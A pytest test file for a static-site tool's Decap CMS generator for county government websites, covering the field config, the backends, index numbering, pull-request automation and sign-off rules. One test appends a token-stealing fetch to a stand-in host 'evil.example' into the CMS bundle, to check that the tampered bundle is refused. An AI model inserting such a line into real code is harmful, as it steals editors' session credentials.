"""The web editor (issue 15, R10): ``zhanqun cms`` writes Decap CMS's config from the schemas and the cluster
(one collection per unit × column, Chinese labels and hints, required as the schema says, widgets by type,
``zhanqun new``'s file naming, attachments beside the item), copies the pinned bundle only when its digest is
the pinned one (E001, E002), and replaces its output whole; ``zhanqun cms index-numbers`` gives new policy files
the number ``zhanqun new`` would; ``zhanqun cms open-pr`` opens or updates the unit's pull request on the host;
the sign-off chain does not count the approval of someone who saved content in the editor."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest
import yaml

from tests.browser import NPM, need_file
from tests.conftest import PROJECT, copy_repo
from zhanqun import cluster as cluster_mod, cms, scaffold

BUNDLE = NPM / "decap-cms" / "dist" / "decap-cms.js"


@pytest.fixture(scope="module")
def repo(tmp_path_factory) -> Path:
    return copy_repo(tmp_path_factory.mktemp("cms") / "repo")


@pytest.fixture(scope="module")
def editor(repo, tmp_path_factory) -> Path:
    """The editor for the demo county (local backend), written once for the module."""
    from zhanqun.cli import main

    need_file(BUNDLE, "the decap-cms npm package")
    out = tmp_path_factory.mktemp("editor") / "cms"
    assert main(["cms", "--root", str(repo), "--backend", "local", "--output", str(out)]) == 0
    return out


def _config(editor: Path, unit: str) -> dict:
    return yaml.safe_load((editor / unit / "config.yml").read_text(encoding="utf-8"))


def _fields(collection: dict) -> dict[str, dict]:
    return {f["name"]: f for f in collection["fields"]}


def test_one_editor_per_unit_and_one_collection_per_column(editor, repo):
    cluster, _ = cluster_mod.load_structure(repo, set())
    assert cluster is not None
    for unit in cluster.units.values():
        config = _config(editor, unit.id)
        assert config["locale"] == "zh_Hans"  # Decap's Chinese UI
        names = [c["name"] for c in config["collections"]]
        assert names == [f"{unit.id}-{c}" for c in unit.columns], unit.id
        for collection, column in zip(config["collections"], unit.columns.values(), strict=True):
            assert collection["label"] == column.name
            assert collection["folder"] == f"content/{unit.id}/{column.id}"
            assert (collection["extension"], collection["format"]) == ("md", "yaml-frontmatter")
            # uploads in the column's own attachments/ folder, written as attachments/<file> (R2.8)
            assert collection["media_folder"] == "attachments" and collection["public_folder"] == "attachments"
        page = (editor / unit.id / "index.html").read_text(encoding="utf-8")
        assert '<script src="../decap/decap-cms.js"></script>' in page and "<script>" not in page  # no inline script
    index = (editor / "index.html").read_text(encoding="utf-8")
    assert '<a href="fgw/">示例县发展和改革委员会</a>' in index and 'href="xzf/"' in index


def test_policy_fields_have_the_schemas_chinese_labels_required_and_widgets(editor):
    (policy,) = [c for c in _config(editor, "fgw")["collections"] if c["name"] == "fgw-zcwj"]
    fields = _fields(policy)
    assert fields["title"]["label"] == "标题" and fields["doc_number"]["label"] == "文号"
    assert fields["doc_number"]["hint"] == "文号，如 示政办〔2026〕3号"
    assert fields["doc_number"]["required"] is True and fields["expires"]["required"] is False
    # dates as the schema writes them: a date, or a date with the time
    assert fields["effective"]["widget"] == "datetime" and fields["effective"]["format"] == "YYYY-MM-DD"
    assert fields["effective"]["time_format"] is False
    assert fields["date"]["format"] == "YYYY-MM-DD HH:mm" and fields["date"]["time_format"] == "HH:mm"
    assert fields["expires"]["default"] == ""  # an optional date starts empty, not "now"
    assert fields["date"]["default"] == fields["effective"]["default"] == "{{now}}"  # as zhanqun new dates an item
    assert fields["status"]["widget"] == "select"
    assert [o["value"] for o in fields["status"]["options"]] == ["有效", "失效", "废止", "已修订"]
    assert fields["importance"]["options"][0] == {"label": "常规", "value": "routine"}  # the value alias as label
    assert fields["keywords"]["widget"] == "list"  # a string or a list in the schema: a list in the form
    assert fields["homepage"]["widget"] == "boolean"
    assert fields["publisher"]["default"] == "示例县发展和改革委员会"  # as zhanqun new fills it
    attachment = _fields(fields["attachments"])
    assert attachment["file"]["widget"] == "file" and attachment["file"]["required"] is True
    assert fields["index_no"]["widget"] == "hidden"  # assigned on the branch, not typed
    assert "withdrawn" not in fields and "migrated_from" not in fields
    assert fields["body"]["widget"] == "markdown" and fields["body"]["required"] is True
    portal = [o["value"] for o in fields["push_to_portal"]["options"]]
    assert fields["push_to_portal"]["multiple"] is True and "zwyw" in portal  # the portal's columns
    assert fields["title"]["pattern"] == ["^[\\s\\S]{1,200}$", "最多 200 个字。"]
    assert list(fields)[:8] == ["title", "date", "doc_number", "publisher", "keywords", "topic", "effective", "status"]


def test_other_types_leader_reply_and_organization(editor):
    collections = {c["name"]: c for c in _config(editor, "fgw")["collections"]}
    leader = _fields(collections["fgw-ldxx"])
    assert collections["fgw-ldxx"]["identifier_field"] == "name" and leader["name"]["label"] == "姓名"
    assert leader["order"]["widget"] == "number" and leader["order"]["value_type"] == "int" and leader["order"]["min"] == 1
    assert leader["resume"]["widget"] == "text"  # long free text
    assert leader["email"]["pattern"][1] == "应是有效的电子邮箱地址，如 xxb@example.gov.cn。"
    photo = _fields(leader["photo"])["src"]
    assert photo["widget"] == "image" and photo["media_folder"] == photo["public_folder"] == "images"
    reply = _fields(collections["fgw-hdjl"])
    assert "date" not in reply  # a reply is dated by its answer (the schema forbids date)
    assert reply["category"]["options"][0] == {"label": "咨询", "value": "咨询"}
    assert reply["received"]["format"] == "YYYY-MM-DD" and reply["body"]["required"] is False
    organization = _fields(collections["fgw-jggk"])
    assert _fields(organization["departments"])["name"]["required"] is True


def test_file_naming_follows_zhanqun_new_as_far_as_decap_can(editor):
    (news,) = [c for c in _config(editor, "fgw")["collections"] if c["name"] == "fgw-gzdt"]
    assert news["slug"] == "{{year}}-{{month}}-{{day}}-{{slug}}"
    assert _config(editor, "fgw")["slug"] == {"encoding": "unicode", "clean_accents": False, "sanitize_replacement": "-"}


def test_a_file_named_as_decap_names_it_passes_check(repo, tmp_path, zq):
    """Decap cannot write pinyin: its names keep the title's characters. zhanqun check accepts them."""
    root = copy_repo(tmp_path / "named")
    name = root / "content/fgw/gzdt/2026-11-20-县发改委召开冬季安全生产工作会议.md"
    name.write_text("---\ntitle: 县发改委召开冬季安全生产工作会议\ndate: 2026-11-20 09:30\nauthor: 示例县发展和改革委员会\n"
                    "source: 示例县发展和改革委员会\nimportance: routine\nhomepage: false\n---\n会议部署了冬季安全生产工作。\n",
                    encoding="utf-8")
    result = zq("check", "--root", root, str(name.relative_to(root)))
    assert result.code == 0, result.text


def test_gitea_saves_to_the_units_branch_and_github_uses_the_editorial_workflow(repo, tmp_path, zq):
    need_file(BUNDLE, "the decap-cms npm package")
    gitea = tmp_path / "gitea"
    assert zq("cms", "--root", repo, "--output", gitea, "--backend", "gitea", "--repo", "egov/zhanqun",
              "--base-url", "https://git.shilixian.gov.cn/", "--app-id", "abc").code == 0
    backend = _config(gitea, "fgw")["backend"]
    assert backend == {**backend, "name": "gitea", "repo": "egov/zhanqun", "branch": "cms/fgw", "app_id": "abc",
                       "base_url": "https://git.shilixian.gov.cn", "api_root": "https://git.shilixian.gov.cn/api/v1"}
    assert "publish_mode" not in _config(gitea, "fgw")
    assert backend["commit_messages"]["create"] == "新建发改委：{{collection}}“{{slug}}”"
    github = tmp_path / "github"
    assert zq("cms", "--root", repo, "--output", github, "--backend", "github", "--repo", "egov/zhanqun").code == 0
    assert _config(github, "fgw")["publish_mode"] == "editorial_workflow"
    assert _config(github, "fgw")["backend"]["branch"] == "main"
    missing = zq("cms", "--root", repo, "--output", tmp_path / "x", "--backend", "gitea", "--repo", "egov/zhanqun")
    assert missing.code == 2 and "Gitea 需要 --base-url" in missing.err and "Traceback" not in missing.text
    no_repo = zq("cms", "--root", repo, "--output", tmp_path / "x", "--backend", "github")
    assert no_repo.code == 2 and "缺少 --repo" in no_repo.err
    no_output = zq("cms", "--root", repo)
    assert no_output.code == 2 and "缺少 --output" in no_output.err
    assert not (tmp_path / "x").exists()


def test_a_swapped_bundle_is_refused_e001_and_the_old_editor_stays(repo, editor, tmp_path, zq):
    need_file(BUNDLE, "the decap-cms npm package")
    dist = tmp_path / "dist"
    shutil.copytree(BUNDLE.parent, dist)
    target = tmp_path / "cms"
    shutil.copytree(editor, target)
    before = sorted(p.relative_to(target).as_posix() for p in target.rglob("*"))
    with (dist / "decap-cms.js").open("a", encoding="utf-8") as f:
        f.write("\nfetch('https://evil.example/steal?'+localStorage.getItem('decap-cms-user'));\n")
    result = zq("cms", "--root", repo, "--backend", "local", "--output", target, "--decap-js", dist / "decap-cms.js")
    assert result.code == 1 and "E001" in result.err and "decap-cms@3.16.3" in result.err and "Traceback" not in result.text
    assert sorted(p.relative_to(target).as_posix() for p in target.rglob("*")) == before
    # a changed chunk is refused too
    shutil.copyfile(BUNDLE, dist / "decap-cms.js")
    (dist / "5025.decap-cms.js").write_text("/* changed */", encoding="utf-8")
    assert "E001" in zq("cms", "--root", repo, "--output", target, "--backend", "local",
                        "--decap-js", dist / "decap-cms.js").err
    missing = zq("cms", "--root", repo, "--output", target, "--backend", "local", "--decap-js", tmp_path / "no.js")
    assert missing.code == 1 and "E002" in missing.err


def test_the_output_is_replaced_whole(repo, editor, tmp_path, zq, monkeypatch):
    target = tmp_path / "cms"
    shutil.copytree(editor, target)
    (target / "stale.html").write_text("old", encoding="utf-8")
    monkeypatch.setenv(cms.DECAP_ENV, str(BUNDLE))
    assert zq("cms", "--root", repo, "--backend", "local", "--output", target).code == 0
    assert not (target / "stale.html").exists() and (target / "fgw" / "config.yml").is_file()
    assert (target / "decap" / "decap-cms.js").read_bytes() == BUNDLE.read_bytes()
    assert sorted(p.name for p in target.parent.iterdir()) == ["cms"]  # nothing left aside


def test_our_script_drops_empty_optional_values_before_a_save(editor):
    script = (editor / "decap" / "zhanqun-cms.js").read_text(encoding="utf-8")
    assert 'name: "preSave"' in script and 'widget.regexPattern = "“%{fieldLabel}”%{pattern}"' in script


POLICY = """\
---
title: 示例县重点项目前期工作经费管理补充规定
date: 2026-11-20 10:00
doc_number: 示发改〔2026〕21号
publisher: 示例县发展和改革委员会
keywords:
  - 重点项目
topic: 国民经济管理
effective: 2026-12-01
status: 有效
importance: general
homepage: false
---
为进一步规范前期工作经费管理，制定本补充规定。
"""


def test_index_numbers_are_assigned_on_the_branch_as_zhanqun_new_would(tmp_path, zq):
    root = copy_repo(tmp_path / "branch")
    cluster, _ = cluster_mod.load(root, use_cache=False)
    assert cluster is not None
    expected = scaffold.next_index_no(cluster, "SLXFGW", "02", "2026")
    assert expected == "SLXFGW-02-2026-00002"
    path = root / "content/fgw/zcwj/2026-11-20-示例县重点项目前期工作经费管理补充规定.md"
    path.write_text(POLICY, encoding="utf-8")
    result = zq("cms", "index-numbers", "--root", root)
    assert result.code == 0 and result.out == f"{path.relative_to(root).as_posix()}\t{expected}\n"
    text = path.read_text(encoding="utf-8")
    assert f'date: 2026-11-20 10:00\nindex_no: "{expected}"\n' in text
    assert zq("check", "--root", root, str(path.relative_to(root))).code == 0
    assert zq("cms", "index-numbers", "--root", root).out == ""  # nothing left to number
    # main moved on meanwhile (another branch was merged): its numbers count too
    main = copy_repo(tmp_path / "main")
    taken = main / "content/fgw/zcwj/2026-11-19-另一份.md"
    taken.write_text(POLICY.replace("date: 2026-11-20 10:00", 'date: 2026-11-19 10:00\nindex_no: "SLXFGW-02-2026-00007"')
                     .replace("21号", "20号"), encoding="utf-8")
    second = root / "content/fgw/zcwj/2026-11-21-又一份.md"
    second.write_text(POLICY.replace("2026-11-20 10:00", "2026-11-21 10:00").replace("21号", "22号"), encoding="utf-8")
    assert zq("cms", "index-numbers", "--root", root, "--also", main).out.endswith("\tSLXFGW-02-2026-00008\n")


# -- the pull request of a unit's branch (the host's API, as tests/test_hosting.py serves it) -----------------

def test_open_pr_opens_once_then_updates_its_own_and_leaves_decaps_alone(cluster, monkeypatch, zq):
    from tests.test_hosting import PREFIX, TOKEN, Host

    root, _ = cluster
    server = Host()
    monkeypatch.setenv("ZHANQUN_API_URL", server.url + "/api/v1")
    monkeypatch.setenv("ZHANQUN_API_TOKEN", TOKEN)
    monkeypatch.setenv("GITHUB_REPOSITORY", "shilixian/zhanqun-site")
    try:
        listing = f"{PREFIX}/pulls?limit=50&page=1"
        server.routes[("GET", listing)] = (200, [])
        server.routes[("POST", f"{PREFIX}/pulls")] = (201, {"number": 12})
        server.routes[("PATCH", f"{PREFIX}/pulls/12")] = (200, {"number": 12})
        opened = zq("cms", "open-pr", "--root", root, "--branch", "cms/fgw", "--api", "gitea")
        assert opened.code == 0 and opened.out == "12\n" and "已开合并请求 #12" in opened.err
        (post,) = [r for r in server.requests if r["method"] == "POST"]
        assert post["body"]["head"] == "cms/fgw" and post["body"]["base"] == "main"
        assert post["body"]["title"] == "示例县发展和改革委员会：网页编辑器中保存的修改"
        assert cms.PR_MARK in post["body"]["body"] and post["authorization"] == f"token {TOKEN}"
        # the next save: the open pull request is found and updated, no second one
        server.routes[("GET", listing)] = (200, [{"number": 12, "state": "open", "head": {"ref": "cms/fgw"},
                                                  "base": {"ref": "main"}, "body": post["body"]["body"]}])
        server.requests.clear()
        again = zq("cms", "open-pr", "--root", root, "--branch", "cms/fgw", "--api", "gitea")
        assert again.code == 0 and "已更新合并请求 #12" in again.err
        assert [(r["method"], r["path"]) for r in server.requests if r["method"] != "GET"] == [
            ("PATCH", f"{PREFIX}/pulls/12")]
        # a pull request someone else opened for the branch (Decap's, a person's) is found and not rewritten
        server.routes[("GET", listing)] = (200, [{"number": 13, "state": "open", "head": {"ref": "cms/fgw"},
                                                  "base": {"ref": "main"}, "body": "我的说明"}])
        server.requests.clear()
        assert zq("cms", "open-pr", "--root", root, "--branch", "cms/fgw", "--api", "gitea").out == "13\n"
        assert {r["method"] for r in server.requests} == {"GET"}
        bad = zq("cms", "open-pr", "--root", root, "--branch", "main", "--api", "gitea")
        assert bad.code == 2 and "不是网页编辑器的分支" in bad.err
    finally:
        server.server.shutdown()


def test_a_reviewer_who_saved_in_the_editor_cannot_approve_when_a_bot_opened_the_pull_request():
    """On Gitea the pull request's author is the bot that opened it; the editor's saves are commits with the
    editor's account: those writers are contributors, whose approval does not count (审发分离, R5)."""
    from tests.test_signoff_policy import COMMITS, CONFIG, UNITS, approve, item
    from zhanqun.signoff.policy import Change, verdict

    change = Change("zhanqun-bot", (item(),), approve("first-f"), COMMITS, contributors=frozenset({"first-f"}))
    result = verdict(change, CONFIG, UNITS)
    assert not result.satisfied and any("first-f" in r and "向这个合并请求提交过内容" in r for r in result.reasons)
    other = Change("zhanqun-bot", (item(),), approve("first-f"), COMMITS, contributors=frozenset({"ed-f"}))
    assert verdict(other, CONFIG, UNITS).satisfied


def test_the_workflow_runs_mains_code_and_opens_the_pull_request():
    from ruamel.yaml import YAML

    data = YAML(typ="safe").load((PROJECT / ".github/workflows/cms-pr.yml").read_text(encoding="utf-8"))
    assert data["on"]["push"]["branches"] == ["cms/**"]
    job = data["jobs"]["cms-pr"]
    checkout = job["steps"][0]
    assert checkout["with"]["ref"] == "${{ github.event.repository.default_branch }}"
    assert checkout["with"]["persist-credentials"] is False
    commands = "\n".join(step.get("run", "") for step in job["steps"])
    assert "zhanqun cms index-numbers --root ../branch --also ." in commands
    assert "zhanqun cms open-pr" in commands and "pip install --quiet ." in commands
    assert "../branch" not in commands.split("pip install")[0]  # nothing of the branch is installed or run


def test_an_output_that_cannot_be_written_is_e003(repo, tmp_path, zq, monkeypatch):
    monkeypatch.setenv(cms.DECAP_ENV, str(need_file(BUNDLE, "the decap-cms npm package")))
    blocker = tmp_path / "file"
    blocker.write_text("not a folder", encoding="utf-8")
    result = zq("cms", "--root", repo, "--backend", "local", "--output", blocker / "cms")
    assert result.code == 1 and "E003" in result.err and "Traceback" not in result.text


def test_the_units_branches_are_made_once_on_gitea(cluster, monkeypatch, zq):
    from tests.test_hosting import PREFIX, TOKEN, Host

    root, _ = cluster
    server = Host()
    monkeypatch.setenv("ZHANQUN_API_URL", server.url + "/api/v1")
    monkeypatch.setenv("ZHANQUN_API_TOKEN", TOKEN)
    monkeypatch.setenv("GITHUB_REPOSITORY", "shilixian/zhanqun-site")
    try:
        server.routes[("GET", f"{PREFIX}/branches/cms/fgw")] = (200, {"name": "cms/fgw"})  # made before
        server.routes[("POST", f"{PREFIX}/branches")] = (201, {"name": "x"})
        result = zq("cms", "branches", "--root", root)
        assert result.code == 0, result.text
        made = [r["body"]["new_branch_name"] for r in server.requests if r["method"] == "POST"]
        assert made == [f"cms/{u}" for u in ("chengguan", "czj", "dongcheng", "jyj", "qingshui", "wjw", "xzf")]
        assert {r["body"]["old_ref_name"] for r in server.requests if r["method"] == "POST"} == {"main"}
        assert "新建了 7 个分支" in result.err
    finally:
        server.server.shutdown()
